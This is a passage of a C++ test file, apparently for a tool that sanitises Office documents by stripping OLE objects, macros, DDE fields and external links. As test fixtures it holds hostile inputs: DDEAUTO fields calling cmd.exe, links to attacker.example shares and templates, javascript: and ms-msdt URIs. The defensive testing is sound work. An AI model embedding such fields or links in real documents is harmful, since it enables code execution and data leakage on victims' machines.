        "drawingml/2006/picture\"><pic:nvPicPr><pic:cNvPr id=\"0\" name=\"\"/><pic:cNvPicPr/>"
        "</pic:nvPicPr><pic:blipFill><a:blip r:embed=\"rId4\"/></pic:blipFill><pic:spPr/>"
        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>";
    const std::string body =
        "<w:p><w:r><w:t>表:</w:t></w:r><w:r><w:object w:dxaOrig=\"4150\" w:dyaOrig=\"310\">" +
        pic +
        "<w:objectEmbed w:drawAspect=\"content\" r:id=\"rId5\" w:progId=\"Excel.Sheet.12\" "
        "w:shapeId=\"1\" w:fieldCodes=\"\"/></w:object></w:r></w:p>"
        "<w:p><w:r><w:object><w:objectLink r:id=\"rId6\" w:progId=\"Excel.Sheet.12\" "
        "w:shapeId=\"2\" w:updateMode=\"always\"/></w:object></w:r></w:p>";
    const Files files = wordPackage(body,
                                    {{"rId4", r + "image", "media/image1.png"},
                                     {"rId5", r + "package", "embeddings/sheet.xlsx"},
                                     {"rId6", r + "oleObject", "file:///C:/secret.xlsx", "x"}},
                                    {{"word/media/image1.png", kPng},
                                     {"word/embeddings/sheet.xlsx", "PK\x03\x04 not really"}});
    PartOutput o;
    const Files out = rebuildWithoutEmbeddings(files, o);
    const std::string* d = entry(out, "word/document.xml");
    REQUIRE(d != nullptr);
    CHECK(countElements(*d, "object") == 0);
    CHECK(countElements(*d, "objectEmbed") == 0);
    CHECK(countElements(*d, "objectLink") == 0);
    CHECK(countElements(*d, "drawing") == 1);
    CHECK(d->find("表:") != std::string::npos);
    Xml x(*d);
    REQUIRE(x.doc != nullptr);
    std::string embed;
    bool drawingInRun = false;
    walk(xmlDocGetRootElement(x.doc), [&](xmlNode* n) {
      const std::string_view name = reinterpret_cast<const char*>(n->name);
      if (name == "drawing") {
        drawingInRun = n->parent != nullptr &&
                       std::string_view(reinterpret_cast<const char*>(n->parent->name)) == "r";
      }
      if (name == "blip") embed = attrOf(n, "embed");
    });
    CHECK(drawingInRun);
    CHECK(imageBehind(out, "word/document.xml", embed) == kPng);
    // The embedded package and the external link are gone.
    CHECK(relsById(out, "word/document.xml").size() == 1);
    CHECK(hasFinding(o, "ooxml.ole_removed"));
  }

  TEST_CASE("ooxml: nodes moved out of a removed element keep their namespaces declared") {
    // The w:object and the fldSimple declare namespaces that what is moved out of them uses
    // (the w: prefix itself, redeclared, included). Freeing them must not leave the moved
    // nodes pointing at freed declarations or at undeclared prefixes.
    const std::string r = kR;
    const std::string wp = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing";
    const std::string am = "http://schemas.openxmlformats.org/drawingml/2006/main";
    const std::string pn = "http://schemas.openxmlformats.org/drawingml/2006/picture";
    const std::string body =
        "<w:p><w:r><w:object xmlns:w=\"" + std::string(kW) + "\" xmlns:wp2=\"" + wp +
        "\" xmlns:a2=\"" + am + "\" xmlns:pic2=\"" + pn + "\"><w:drawing><wp2:inline>"
        "<wp2:extent cx=\"100\" cy=\"100\"/><wp2:docPr id=\"1\" name=\"Object 1\"/><a2:graphic>"
        "<a2:graphicData uri=\"" + pn + "\"><pic2:pic><pic2:nvPicPr><pic2:cNvPr id=\"0\" "
        "name=\"\"/><pic2:cNvPicPr/></pic2:nvPicPr><pic2:blipFill><a2:blip r:embed=\"rId4\"/>"
        "</pic2:blipFill><pic2:spPr/></pic2:pic></a2:graphicData></a2:graphic></wp2:inline>"
        "</w:drawing><w:objectEmbed r:id=\"rId5\" w:progId=\"Excel.Sheet.12\"/></w:object>"
        "</w:r></w:p>"
        "<w:p><w:fldSimple w:instr=\" DDE excel x \" xmlns:x=\"urn:x-test\"><w:r><w:t>RESULT"
        "</w:t></w:r><x:mark/></w:fldSimple></w:p>";
    const Files files = wordPackage(body,
                                    {{"rId4", r + "image", "media/image1.png"},
                                     {"rId5", r + "package", "embeddings/sheet.xlsx"}},
                                    {{"word/media/image1.png", kPng},
                                     {"word/embeddings/sheet.xlsx", "PK\x03\x04 x"}});
    PartOutput o;
    const Files out = rebuildWithoutEmbeddings(files, o);
    const std::string* d = entry(out, "word/document.xml");
    REQUIRE(d != nullptr);
    CHECK(countElements(*d, "object") == 0);
    CHECK(countElements(*d, "fldSimple") == 0);
    CHECK(textOf(*d, "t") == "RESULT");
    Xml x(*d);
    REQUIRE(x.doc != nullptr);
    std::map<std::string, std::string> ns;  // local name -> namespace after a fresh parse
    std::string embed;
    walk(xmlDocGetRootElement(x.doc), [&](xmlNode* n) {
      const std::string name = reinterpret_cast<const char*>(n->name);
      ns[name] = n->ns == nullptr ? "" : reinterpret_cast<const char*>(n->ns->href);
      if (name == "blip") embed = attrOf(n, "embed");
    });
    CHECK(ns["drawing"] == kW);
    CHECK(ns["inline"] == wp);
    CHECK(ns["blip"] == am);
    CHECK(ns["pic"] == pn);
    CHECK(ns["mark"] == "urn:x-test");
    CHECK(imageBehind(out, "word/document.xml", embed) == kPng);
  }

  TEST_CASE("ooxml: a pptx OLE object becomes its preview picture, in both PowerPoint forms") {
    const std::string r = kR;
    for (const bool withVml : {true, false}) {
      CAPTURE(withVml);
      const Files files = pptxOleDeck(withVml);
      const PartOutput o = run(makeZip(files), "pptx", "deck.pptx");
      REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
      const Files out = readZip(o.bytes);
      CHECK_FALSE(hasEntryContaining(out, "embeddings"));
      CHECK_FALSE(hasEntryContaining(out, ".vml"));
      const std::string* s = entry(out, "ppt/slides/slide1.xml");
      REQUIRE(s != nullptr);
      for (const char* gone : {"oleObj", "graphicFrame", "AlternateContent", "embed"}) {
        CHECK_MESSAGE(countElements(*s, gone) == 0, gone);
      }
      CHECK(textOf(*s, "t") == "Budget");
      Xml x(*s);
      REQUIRE(x.doc != nullptr);
      std::vector<xmlNode*> pics;
      walk(xmlDocGetRootElement(x.doc), [&](xmlNode* n) {
        if (std::string_view(reinterpret_cast<const char*>(n->name)) == "pic") pics.push_back(n);
      });
      REQUIRE(pics.size() == 1);
      REQUIRE(pics[0]->parent != nullptr);
      CHECK(std::string_view(reinterpret_cast<const char*>(pics[0]->parent->name)) == "spTree");
      std::map<std::string, std::string> got;  // element/attribute → value, inside the picture
      walk(pics[0]->children, [&](xmlNode* n) {
        const std::string name = reinterpret_cast<const char*>(n->name);
        for (const char* a : {"id", "name", "embed", "x", "y", "cx", "cy"}) {
          if (!attrOf(n, a).empty()) got[name + "@" + a] = attrOf(n, a);
        }
      });
      CHECK(got["cNvPr@id"] == "4");
      CHECK(got["cNvPr@name"] == "Object 3");
      CHECK(got["off@x"] == "3131840");
      CHECK(got["off@y"] == "3861048");
      CHECK(got["ext@cx"] == "2956040");
      CHECK(got["ext@cy"] == "1236712");
      // The blip names a relationship of the slide that leads to the PNG, present in the zip.
      CHECK(imageBehind(out, "ppt/slides/slide1.xml", got["blip@embed"]) == kPng);
      for (const auto& [id, row] : relsById(out, "ppt/slides/slide1.xml")) {
        CHECK(row.first != r + "oleObject");
      }
      CHECK(hasFinding(o, "ooxml.ole_removed"));
    }
  }

  TEST_CASE("ooxml: an xlsx OLE preview joins the sheet's existing drawing") {
    const std::string r = kR;
    const std::string rns = r.substr(0, r.size() - 1);
    const std::string xdr = kXdr;
    const std::string sheet =
        std::string(kDecl) +
        "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
        "xmlns:r=\"" + rns + "\" xmlns:xdr=\"" + xdr + "\"><sheetData/><drawing r:id=\"rId1\"/>"
        "<oleObjects><oleObject progId=\"Package\" shapeId=\"1025\" r:id=\"rId3\">"
        "<objectPr r:id=\"rId4\"><anchor><from><xdr:col>2</xdr:col><xdr:colOff>0</xdr:colOff>"
        "<xdr:row>3</xdr:row><xdr:rowOff>0</xdr:rowOff></from><to><xdr:col>5</xdr:col>"
        "<xdr:colOff>0</xdr:colOff><xdr:row>8</xdr:row><xdr:rowOff>0</xdr:rowOff></to></anchor>"
        "</objectPr></oleObject></oleObjects></worksheet>";
    // The existing drawing already holds a picture with shape id 7.
    const std::string drawing =
        std::string(kDecl) + "<xdr:wsDr xmlns:xdr=\"" + xdr +
        "\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:r=\"" + rns +
        "\"><xdr:oneCellAnchor><xdr:from><xdr:col>0</xdr:col><xdr:colOff>0</xdr:colOff>"
        "<xdr:row>0</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx=\"100\" "
        "cy=\"100\"/><xdr:pic><xdr:nvPicPr><xdr:cNvPr id=\"7\" name=\"Logo\"/><xdr:cNvPicPr/>"
        "</xdr:nvPicPr><xdr:blipFill><a:blip r:embed=\"rId1\"/></xdr:blipFill><xdr:spPr/>"
        "</xdr:pic><xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>";
    const std::string png2 = kPng + std::string(8, '\0');
    const Files files = oneSheetWorkbook(
        sheet,
        {{"rId1", r + "drawing", "../drawings/drawing1.xml"},
         {"rId3", r + "oleObject", "../embeddings/oleObject1.bin"},
         {"rId4", r + "image", "../media/preview.png"}},
        {{"xl/drawings/drawing1.xml", drawing},
         {"xl/drawings/_rels/drawing1.xml.rels", rels({{"rId1", r + "image", "../media/logo.png"}})},
         {"xl/embeddings/oleObject1.bin", "\xD0\xCF\x11\xE0 one"},
         {"xl/media/logo.png", kPng},
         {"xl/media/preview.png", png2}},
        "<Override PartName=\"/xl/drawings/drawing1.xml\" ContentType=\"application/"
        "vnd.openxmlformats-officedocument.drawing+xml\"/>");
    const PartOutput o = run(makeZip(files), "xlsx", "quote.xlsx");
    REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
    const Files out = readZip(o.bytes);
    CHECK_FALSE(hasEntryContaining(out, "embeddings"));
    CHECK_FALSE(hasEntryContaining(out, "drawing2"));
    const std::string* s = entry(out, "xl/worksheets/sheet1.xml");
    REQUIRE(s != nullptr);
    CHECK(countElements(*s, "drawing") == 1);
    CHECK(countElements(*s, "oleObjects") == 0);
    // The logo first, untouched; the preview after it, with a shape id not used before.
    const DrawingView v = viewDrawing(out, "xl/drawings/drawing1.xml");
    CHECK(v.ids == std::vector<std::string>{"7", "8"});
    CHECK(v.images == std::vector<std::string>{kPng, png2});

    // A Strict sheet with a Transitional drawing (hand-made, but possible): the preview joins the
    // drawing in the drawing's own vocabulary, never a mix.
    Files mixed = toStrict(files);
    for (auto& [name, bytes] : mixed) {
      for (const auto& [origName, origBytes] : files) {
        if (name == origName && name.rfind("xl/drawings/", 0) == 0) bytes = origBytes;
      }
    }
    const PartOutput m = run(makeZip(mixed), "xlsx", "quote.xlsx");
    REQUIRE_MESSAGE(m.disposition == Disposition::Rebuilt, m.reason);
    const Files mout = readZip(m.bytes);
    const std::string* md = entry(mout, "xl/drawings/drawing1.xml");
    REQUIRE(md != nullptr);
    CHECK(md->find("purl.oclc.org") == std::string::npos);
    const DrawingView mv = viewDrawing(mout, "xl/drawings/drawing1.xml");
    CHECK(mv.ids == std::vector<std::string>{"7", "8"});
    CHECK(mv.images == std::vector<std::string>{kPng, png2});
  }

  TEST_CASE("ooxml: an xlsx OLE object's preview becomes a picture in the sheet's drawing") {
    const std::string r = kR;
    const std::string xdr = kXdr;
    const std::string png2 = kPng + std::string(8, '\0');  // image2.png
    const Files files = xlsxOleWorkbook();
    const PartOutput o = run(makeZip(files), "xlsx", "quote.xlsx");
    REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
    const Files out = readZip(o.bytes);
    CHECK_FALSE(hasEntryContaining(out, "embeddings"));
    CHECK_FALSE(hasEntryContaining(out, ".vml"));
    const std::string* s = entry(out, "xl/worksheets/sheet1.xml");
    REQUIRE(s != nullptr);
    for (const char* gone : {"oleObjects", "oleObject", "legacyDrawing", "AlternateContent"}) {
      CHECK_MESSAGE(countElements(*s, gone) == 0, gone);
    }
    CHECK(textOf(*s, "t") == "Quote");
    // <drawing r:id> right after pageMargins (CT_Worksheet order), naming a drawing part.
    Xml x(*s);
    REQUIRE(x.doc != nullptr);
    std::vector<std::string> order;
    std::string drawingId;
    for (xmlNode* c = xmlDocGetRootElement(x.doc)->children; c != nullptr; c = c->next) {
      if (c->type != XML_ELEMENT_NODE) continue;
      order.emplace_back(reinterpret_cast<const char*>(c->name));
      if (order.back() == "drawing") drawingId = attrOf(c, "id");
    }
    CHECK(order == std::vector<std::string>{"sheetData", "pageMargins", "drawing"});
    const auto sheetRels = relsById(out, "xl/worksheets/sheet1.xml");
    const auto d = sheetRels.find(drawingId);
    REQUIRE(d != sheetRels.end());
    CHECK(d->second.first == r + "drawing");
    const std::string drawingName = d->second.second;
    const std::string* drawing = entry(out, drawingName);
    REQUIRE(drawing != nullptr);
    const std::string* ct = entry(out, "[Content_Types].xml");
    REQUIRE(ct != nullptr);
    CHECK(ct->find("PartName=\"/" + drawingName +
                   "\" ContentType=\"application/vnd.openxmlformats-officedocument.drawing+xml\"") !=
          std::string::npos);
    // Two anchored pictures, in object order, each showing its own preview image.
    Xml dx(*drawing);
    REQUIRE(dx.doc != nullptr);
    xmlNode* wsDr = xmlDocGetRootElement(dx.doc);
    REQUIRE(wsDr->ns != nullptr);
    CHECK(std::string(reinterpret_cast<const char*>(wsDr->ns->href)) == xdr);
    const DrawingView v = viewDrawing(out, drawingName);
    CHECK(v.markers == std::vector<std::string>{"1,0,2,0,", "4,304800,9,0,",
                                                "6,142875,4,95250,", "8,0,7,28575,"});
    CHECK(v.images == std::vector<std::string>{kPng, png2});
    CHECK(countElements(*drawing, "clientData") == 2);
    CHECK(hasFinding(o, "ooxml.ole_removed"));
    // Idempotent: a second rebuild keeps the pictures and adds no drawing.
    const PartOutput again = run(o.bytes, "xlsx", "quote.xlsx");
    REQUIRE(again.disposition == Disposition::Rebuilt);
    CHECK(again.bytes == o.bytes);
  }

  TEST_CASE("ooxml: in a Strict package, OLE previews are built in Strict's vocabulary") {
    const std::string strictR = "http://purl.oclc.org/ooxml/officeDocument/relationships/";
    // No Transitional name may appear in a rebuilt Strict part: Office reads a foreign one as
    // an unknown element.
    const auto transitionalFree = [](const std::string& xml) {
      for (const char* t : {"schemas.openxmlformats.org/presentationml",
                            "schemas.openxmlformats.org/drawingml",
                            "schemas.openxmlformats.org/spreadsheetml",
                            "schemas.openxmlformats.org/officeDocument"}) {
        if (xml.find(t) != std::string::npos) return false;
      }
      return true;
    };
    SUBCASE("pptx, both PowerPoint forms") {
      for (const bool withVml : {true, false}) {
        CAPTURE(withVml);
        const PartOutput o = run(makeZip(toStrict(pptxOleDeck(withVml))), "pptx", "deck.pptx");
        REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
        const Files out = readZip(o.bytes);
        const std::string* slide = entry(out, "ppt/slides/slide1.xml");
        REQUIRE(slide != nullptr);
        CHECK(countElements(*slide, "oleObj") == 0);
        CHECK(countElements(*slide, "pic") == 1);
        CHECK(transitionalFree(*slide));
        const std::string* slideRels = entry(out, "ppt/slides/_rels/slide1.xml.rels");
        REQUIRE(slideRels != nullptr);
        CHECK(transitionalFree(*slideRels));
        Xml x(*slide);
        REQUIRE(x.doc != nullptr);
        std::string embed;
        walk(xmlDocGetRootElement(x.doc), [&](xmlNode* n) {
          const std::string_view name = reinterpret_cast<const char*>(n->name);
          if (name == "pic" || name == "blip") {
            REQUIRE(n->ns != nullptr);
            CHECK(std::string_view(reinterpret_cast<const char*>(n->ns->href))
                      .starts_with("http://purl.oclc.org/ooxml/"));
          }
          if (name == "blip") {
            for (xmlAttr* a = n->properties; a != nullptr; a = a->next) {
              if (std::string_view(reinterpret_cast<const char*>(a->name)) != "embed") continue;
              REQUIRE(a->ns != nullptr);
              CHECK(std::string(reinterpret_cast<const char*>(a->ns->href)) + "/" == strictR);
              embed = attrOf(n, "embed");
            }
          }
        });
        CHECK(imageBehind(out, "ppt/slides/slide1.xml", embed, strictR + "image") == kPng);
      }
    }
    SUBCASE("xlsx: a new drawing for both Excel forms") {
      const PartOutput o = run(makeZip(toStrict(xlsxOleWorkbook())), "xlsx", "quote.xlsx");
      REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
      const Files out = readZip(o.bytes);
      const std::string* sheet = entry(out, "xl/worksheets/sheet1.xml");
      REQUIRE(sheet != nullptr);
      CHECK(countElements(*sheet, "oleObject") == 0);
      CHECK(transitionalFree(*sheet));
      std::string drawingName;
      for (const auto& [id, row] : relsById(out, "xl/worksheets/sheet1.xml")) {
        CHECK(row.first.starts_with(strictR));
        if (row.first == strictR + "drawing") drawingName = row.second;
      }
      REQUIRE(!drawingName.empty());
      const std::string* drawing = entry(out, drawingName);
      REQUIRE(drawing != nullptr);
      CHECK(transitionalFree(*drawing));
      CHECK(drawing->find("http://purl.oclc.org/ooxml/drawingml/spreadsheetDrawing") !=
            std::string::npos);
      for (const auto& [id, row] : relsById(out, drawingName)) CHECK(row.first == strictR + "image");
      const DrawingView v = viewDrawing(out, drawingName, strictR + "image");
      CHECK(v.images == std::vector<std::string>{kPng, kPng + std::string(8, '\0')});
      // A fixed point in Strict too.
      CHECK(run(o.bytes, "xlsx", "quote.xlsx").bytes == o.bytes);
    }
  }

  TEST_CASE("ooxml: every macro, template and slideshow variant comes out as the plain type") {
    struct Row {
      const char* token;
      const char* mainType;
      const char* inName;
      const char* outName;
      const char* outType;
    };
    const std::string wp = "application/vnd.openxmlformats-officedocument.wordprocessingml.";
    const std::string sp = "application/vnd.openxmlformats-officedocument.spreadsheetml.";
    const std::string pp = "application/vnd.openxmlformats-officedocument.presentationml.";
    const std::vector<Row> rows = {
        {"docx", "wordprocessingml.document.main+xml", "a.docx", "a.docx", "document"},
        {"docm", "application/vnd.ms-word.document.macroEnabled.main+xml", "報告書.v2.docm",
         "報告書.v2.docx", "document"},
        {"dotx", "wordprocessingml.template.main+xml", "a.dotx", "a.docx", "document"},
        {"dotm", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml", "A.DOTM",
         "A.docx", "document"},
        {"xlsx", "spreadsheetml.sheet.main+xml", "b.xlsx", "b.xlsx", "sheet"},
        {"xlsm", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", "b.xlsm", "b.xlsx",
         "sheet"},
        {"xltx", "spreadsheetml.template.main+xml", "b.xltx", "b.xlsx", "sheet"},
        {"xltm", "application/vnd.ms-excel.template.macroEnabled.main+xml", "b.xltm", "b.xlsx",
         "sheet"},
        {"pptx", "presentationml.presentation.main+xml", "c.pptx", "c.pptx", "presentation"},
        {"pptm", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml", "c.pptm",
         "c.pptx", "presentation"},
        {"potx", "presentationml.template.main+xml", "c.potx", "c.pptx", "presentation"},
        {"potm", "application/vnd.ms-powerpoint.template.macroEnabled.main+xml", "c.potm",
         "c.pptx", "presentation"},
        {"ppsx", "presentationml.slideshow.main+xml", "c.ppsx", "c.pptx", "presentation"},
        {"ppsm", "application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml", "c.ppsm",
         "c.pptx", "presentation"},
    };
    const std::string r = kR;
    const std::string rns = r.substr(0, r.size() - 1);
    for (const Row& row : rows) {
      const std::string rowToken = row.token;
      CAPTURE(rowToken);
      const char family = row.outType[0];  // d, s or p
      std::string mainType = row.mainType;
      if (mainType.rfind("application/", 0) != 0) {
        mainType = (family == 'd' ? wp : family == 's' ? sp : pp) +
                   mainType.substr(mainType.find('.') + 1);
      }
      Files files;
      std::string mainPart;
      if (family == 'd') {
        mainPart = "word/document.xml";
        files = {{mainPart, wordDoc("<w:p>" + run_("Body text") + "</w:p>")}};
      } else if (family == 's') {
        mainPart = "xl/workbook.xml";
        const std::string ns =
            "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
        files = {{mainPart, std::string(kDecl) + "<workbook " + ns + " xmlns:r=\"" + rns +
                                "\"><sheets><sheet name=\"S\" sheetId=\"1\" r:id=\"rId1\"/>"
                                "</sheets></workbook>"},
                 {"xl/_rels/workbook.xml.rels",
                  rels({{"rId1", r + "worksheet", "worksheets/sheet1.xml"}})},
                 {"xl/worksheets/sheet1.xml", std::string(kDecl) + "<worksheet " + ns +
                                                  "><sheetData/></worksheet>"}};
      } else {
        mainPart = "ppt/presentation.xml";
        const std::string ns =
            "xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" "
            "xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"";
        files = {{mainPart, std::string(kDecl) + "<p:presentation " + ns + " xmlns:r=\"" + rns +
                                "\"><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId1\"/></p:sldIdLst>"
                                "</p:presentation>"},
                 {"ppt/_rels/presentation.xml.rels",
                  rels({{"rId1", r + "slide", "slides/slide1.xml"}})},
                 {"ppt/slides/slide1.xml",
                  std::string(kDecl) + "<p:sld " + ns + "><p:cSld><p:spTree/></p:cSld></p:sld>"}};
      }
      files.insert(files.begin(),
                   {"_rels/.rels", rels({{"rId1", r + "officeDocument", mainPart}})});
      files.insert(files.begin(), {"[Content_Types].xml", contentTypes(mainType, mainPart)});
      const std::string input = makeZip(files);
      CHECK(mugai::core::sniff(input, Limits{}) == row.token);
      const PartOutput o = run(input, row.token, row.inName);
      REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
      const std::string family_ = family == 'd' ? wp : family == 's' ? sp : pp;
      CHECK(o.contentType == family_ + row.outType);
      CHECK(o.filename == row.outName);
      const std::string plainToken = family == 'd' ? "docx" : family == 's' ? "xlsx" : "pptx";
      CHECK(mugai::core::sniff(o.bytes, Limits{}) == plainToken);
      const Files out = readZip(o.bytes);
      const std::string* ct = entry(out, "[Content_Types].xml");
      REQUIRE(ct != nullptr);
      // The main part's override is the plain document type, read back from the output.
      std::string overrideType;
      {
        Xml x(*ct);
        REQUIRE(x.doc != nullptr);
        walk(xmlDocGetRootElement(x.doc), [&](xmlNode* n) {
          if (attrOf(n, "PartName") == "/" + mainPart) overrideType = attrOf(n, "ContentType");
        });
      }
      CHECK(overrideType == family_ + (family == 'd'   ? "document.main+xml"
                                       : family == 's' ? "sheet.main+xml"
                                                       : "presentation.main+xml"));
      const auto problems = activeContent(out);
      CHECK_MESSAGE(problems.empty(), (problems.empty() ? "" : problems.front()));
      CHECK(hasFinding(o, "ooxml.macro_free_conversion") ==
            (std::string_view(row.token) != plainToken));
    }
  }

  TEST_CASE("ooxml: external relationships other than web and mail links are removed") {
    struct Row {
      const char* type;  // last segment, under the transitional namespace
      const char* target;
      bool kept;
    };
    const std::vector<Row> rows = {
        {"hyperlink", "https://example.jp/a", true},
        {"hyperlink", "HTTP://example.jp/b", true},
        {"hyperlink", "mailto:kakari@example.lg.jp", true},
        {"hyperlink", "file:///C:/Windows/System32/calc.exe", false},
        {"hyperlink", "\\\\attacker.example\\share\\x.docm", false},
        {"hyperlink", "javascript:alert(1)", false},
        {"hyperlink", "ms-msdt:/id PCWDiagnostic", false},
        {"image", "http://attacker.example/track.png", false},
        {"oleObject", "file:///C:/x.xlsx", false},
        {"attachedTemplate", "https://attacker.example/t.dotm", false},
        {"frame", "http://attacker.example/frame.html", false},
        {"subDocument", "\\\\attacker.example\\s\\sub.docx", false},
        {"officeDocument", "https://attacker.example/main.xml", false},
        {"nonsense", "https://attacker.example/x", false},
    };
    const std::string r = kR;
    std::string body;
    std::vector<std::vector<std::string>> relRows;
    for (std::size_t i = 0; i < rows.size(); ++i) {
      const std::string id = "rIdX" + std::to_string(i);
      relRows.push_back({id, r + rows[i].type, rows[i].target, "x"});
      if (std::string_view(rows[i].type) == "image") {
        body += "<w:p><w:r><w:drawing><a:graphic><a:graphicData><a:blip r:link=\"" + id +
                "\"/></a:graphicData></a:graphic></w:drawing></w:r></w:p>";
      } else {
        body += "<w:p><w:hyperlink r:id=\"" + id + "\">" + run_("link" + std::to_string(i)) +
                "</w:hyperlink></w:p>";
      }
    }
    const Files files = {
        {"[Content_Types].xml",
         contentTypes("application/vnd.openxmlformats-officedocument.wordprocessingml.document."
                      "main+xml",
                      "word/document.xml")},
        {"_rels/.rels", rels({{"rId1", r + "officeDocument", "word/document.xml"}})},
        {"word/document.xml", wordDoc(body)},
        {"word/_rels/document.xml.rels", rels(relRows)},
    };
    const PartOutput o = run(makeZip(files), "docx", "links.docx");
    REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
    const Files out = readZip(o.bytes);
    const std::vector<RelRow> outRels = relsOf(out);
    for (const Row& row : rows) {
      const std::string rowTarget = row.target;
      CAPTURE(rowTarget);
      const bool present = std::any_of(outRels.begin(), outRels.end(), [&](const RelRow& x) {
        return x.target == row.target && x.mode == "External";
      });
      CHECK(present == row.kept);
    }
    const auto problems = activeContent(out);
    CHECK_MESSAGE(problems.empty(), (problems.empty() ? "" : problems.front()));
    // The link texts stay, whether their link was kept or not.
    const std::string* doc = entry(out, "word/document.xml");
    REQUIRE(doc != nullptr);
    const std::string text = textOf(*doc, "t");
    for (std::size_t i = 0; i < rows.size(); ++i) {
      if (std::string_view(rows[i].type) != "image") {
        CHECK(text.find("link" + std::to_string(i)) != std::string::npos);
      }
    }
    CHECK(hasFinding(o, "ooxml.external_reference_removed"));
  }

  TEST_CASE("ooxml: DDE and INCLUDE fields go in every spelling, their shown result stays") {
    struct Row {
      const char* name;
      std::string field;
    };
    const std::string begin = fldChar("begin");
    const std::string sep = fldChar("separate");
    const std::string end = fldChar("end");
    const std::vector<Row> rows = {
        {"one run",
         begin + instr(" DDEAUTO c:\\\\cmd.exe \"/c calc\" ") + sep + run_("RESULT") + end},
        {"lower case", begin + instr(" ddeauto c:\\\\cmd.exe x ") + sep + run_("RESULT") + end},
        {"split in the keyword",
         begin + instr(" D") + instr("D") + instr("E c:\\\\cmd.exe x") + sep + run_("RESULT") +
             end},
        {"split across paragraphs", begin + instr(" DDE") + "</w:p><w:p>" +
                                        instr("AUTO c:\\\\cmd.exe x") + sep + run_("RESULT") + end},
        {"nested field builds the keyword",
         begin + begin + instr(" QUOTE \"DDEAUTO\" ") + sep + run_("DDEAUTO") + end +
             instr(" c:\\\\cmd.exe x ") + sep + run_("RESULT") + end},
        {"no separator", begin + instr(" DDE c:\\\\cmd.exe x ") + end + run_("RESULT")},
        {"INCLUDETEXT", begin + instr(" INCLUDETEXT \"\\\\\\\\srv\\\\s\\\\x.docx\" ") + sep +
                            run_("RESULT") + end},
        {"INCLUDEPICTURE", begin + instr(" INCLUDEPICTURE \"http://attacker.example/t.png\" \\d ") +
                               sep + run_("RESULT") + end},
        {"fldSimple DDEAUTO",
         "<w:fldSimple w:instr=\" DDEAUTO c:\\\\cmd.exe x \">" + run_("RESULT") + "</w:fldSimple>"},
        {"fldSimple dde lower",
         "<w:fldSimple w:instr=\"dde c:\\\\cmd.exe x\">" + run_("RESULT") + "</w:fldSimple>"},
        {"fldSimple INCLUDETEXT",
         "<w:fldSimple w:instr=\" INCLUDETEXT x.docx \">" + run_("RESULT") + "</w:fldSimple>"},
    };
    const std::string r = kR;
    for (const Row& row : rows) {
      const std::string rowName = row.name;
      CAPTURE(rowName);
      const Files files = {
          {"[Content_Types].xml",
           contentTypes("application/vnd.openxmlformats-officedocument.wordprocessingml."
                        "document.main+xml",
                        "word/document.xml")},
          {"_rels/.rels", rels({{"rId1", r + "officeDocument", "word/document.xml"}})},
          {"word/document.xml", wordDoc("<w:p>" + run_("Before") + row.field + run_("After") +
                                        "</w:p>")},
      };
      const PartOutput o = run(makeZip(files), "docx", "f.docx");
      REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
      const Files out = readZip(o.bytes);
      const std::string* doc = entry(out, "word/document.xml");
      REQUIRE(doc != nullptr);
      const auto problems = activeContent(out);
      CHECK_MESSAGE(problems.empty(), (problems.empty() ? "" : problems.front()));
      CHECK(countElements(*doc, "instrText") == 0);
      const std::string text = textOf(*doc, "t");
      CHECK(text.rfind("Before", 0) == 0);
      CHECK(text.find("RESULT") != std::string::npos);
      CHECK(text.find("After") != std::string::npos);
      CHECK((hasFinding(o, "ooxml.dde_removed") || hasFinding(o, "ooxml.external_field_removed")));
    }
  }

  TEST_CASE("ooxml: Excel 4 macro sheets and dialog sheets go, however they are filed") {
    struct Row {
      const char* name;
      std::string relType;
      const char* contentType;
      const char* root;  // root element of the hostile sheet part
    };
    const std::string r = kR;
    const std::string ms = kMs;
    const std::vector<Row> rows = {
        {"macro sheet", ms + "xlMacrosheet", "application/vnd.ms-excel.macrosheet+xml",
         "xm:macrosheet"},
        {"international macro sheet", ms + "xlIntlMacrosheet",
         "application/vnd.ms-excel.intlmacrosheet+xml", "xm:macrosheet"},
        {"dialog sheet", r + "dialogsheet",
         "application/vnd.openxmlformats-officedocument.spreadsheetml.dialogsheet+xml",
         "dialogsheet"},
        {"macro sheet filed as a worksheet", r + "worksheet",
         "application/vnd.ms-excel.macrosheet+xml", "xm:macrosheet"},
        {"macro sheet with a worksheet content type", r + "worksheet",
         "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
         "xm:macrosheet"},
    };
    const std::string ns = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
    const std::string rns = r.substr(0, r.size() - 1);
    for (const Row& row : rows) {
      const std::string rowName = row.name;
      CAPTURE(rowName);
      const Files files = {
          {"[Content_Types].xml",
           contentTypes("application/vnd.ms-excel.sheet.macroEnabled.main+xml", "xl/workbook.xml",
                        "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\""
                        "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
                        "\"/><Override PartName=\"/xl/hostile/sheet2.xml\" ContentType=\"" +
                            std::string(row.contentType) + "\"/>")},
          {"_rels/.rels", rels({{"rId1", r + "officeDocument", "xl/workbook.xml"}})},
